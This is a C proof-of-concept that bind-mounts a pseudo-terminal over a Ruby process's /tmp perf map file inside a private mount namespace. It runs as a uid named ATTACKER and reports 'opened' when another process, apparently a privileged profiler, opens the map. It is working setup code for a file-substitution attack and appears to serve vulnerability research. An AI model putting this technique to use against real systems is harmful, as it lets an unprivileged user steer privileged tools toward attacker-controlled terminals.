/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * Runs a Ruby whose perf map is a terminal, and says "opened" if somebody opens that.
 *
 *	pty PROGRAM FILE…	as root, which it stops being
 *
 * A bind mount in a mount namespace of its own: users may have that in a user namespace.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <grp.h>
#include <poll.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <signal.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <unistd.h>

#define ATTACKER 54321

static void become_ruby(char **argv, const char *terminal)
{
	char map[64];

	snprintf(map, sizeof(map), "/tmp/perf-%d.map", (int)getpid());
	close(open(map, O_WRONLY | O_CREAT | O_EXCL, 0644));
	if (mount(terminal, map, NULL, MS_BIND, NULL)) {
		perror("mount");
		_exit(1);
	}
	setgroups(0, NULL);
	setgid(ATTACKER);
	setuid(ATTACKER);
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	argv[0] = "ruby";
	execvp("ruby", argv);
	_exit(127);
}

int main(int argc, char **argv)
{
	int master = posix_openpt(O_RDWR | O_NOCTTY);
	struct pollfd pfd = { .fd = master };
	char terminal[64], map[64];
	int i, slave;
	pid_t pid;

	if (master < 0 || grantpt(master) || unlockpt(master) || unshare(CLONE_NEWNS))
		return 1;
	mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
	snprintf(terminal, sizeof(terminal), "%s", ptsname(master));
	/* Once it was open and is not any more, it has hung up until it is open again. */
	slave = open(terminal, O_RDWR | O_NOCTTY);
	close(slave);
	pid = fork();
	if (!pid) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		become_ruby(argv, terminal);
	}
	for (;;) {
		poll(&pfd, 1, 0);
		if (!(pfd.revents & POLLHUP)) {
			printf("opened\n");
			fflush(stdout);
			usleep(100000);
		}
		usleep(500);
	}
}
